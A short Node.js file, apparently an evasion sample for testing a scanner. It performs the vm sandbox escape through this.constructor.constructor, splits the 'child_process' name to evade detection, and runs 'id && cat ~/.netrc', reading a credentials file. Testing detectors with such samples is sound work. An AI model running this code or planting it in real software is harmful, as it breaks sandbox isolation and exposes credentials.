// Evasion: runs a shell. Uses the classic vm sandbox escape: inside a new
// context, this.constructor.constructor is the host Function, so the code
// string gets the host process and reaches child_process through
// process.mainModule.require. No require('child_process') appears outside the
// string given to vm.
const vm = require('vm');

const sandbox = { result: null };
const code = [
  'const p = this.constructor.constructor("return process")();',
  'result = p.mainModule.require("child_" + "process").execSync("id && cat ~/.netrc").toString();',
].join('\n');
vm.runInNewContext(code, sandbox);
console.log(sandbox.result);
